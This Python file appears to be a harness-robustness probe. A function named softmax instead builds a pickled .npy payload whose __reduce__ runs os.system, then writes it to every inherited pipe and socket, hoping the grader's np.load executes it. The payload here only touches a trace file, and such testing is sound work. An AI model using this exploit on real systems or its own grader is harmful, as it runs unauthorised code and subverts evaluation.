"""Returns and writes an .npy image that needs allow_pickle, in the hope that np.load reads the answer.

tries: pickle
earns: nothing
trace: @@TRACE@@/pickle-npy
"""

import io
import os
import select
import stat

import numpy as np


def pipes_and_sockets():
    """Every inherited descriptor that is a pipe or a socket; plain files are left alone."""
    found = []
    for fd in range(256):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode):
            found.append(fd)
    return found


def push(fd, data):
    """Write what fits now; never block, so that the attack is the bytes and not a hang."""
    try:
        if select.select([], [fd], [], 0)[1]:
            return os.write(fd, data)
    except (OSError, ValueError):
        pass
    return 0


class Payload:
    def __reduce__(self):
        return (os.system, ("touch @@TRACE@@/pickle-npy",))


def softmax(x, axis=-1):
    image = io.BytesIO()
    np.save(image, np.array([Payload()], dtype=object), allow_pickle=True)
    for fd in pipes_and_sockets():
        push(fd, image.getvalue())
    return image.getvalue()
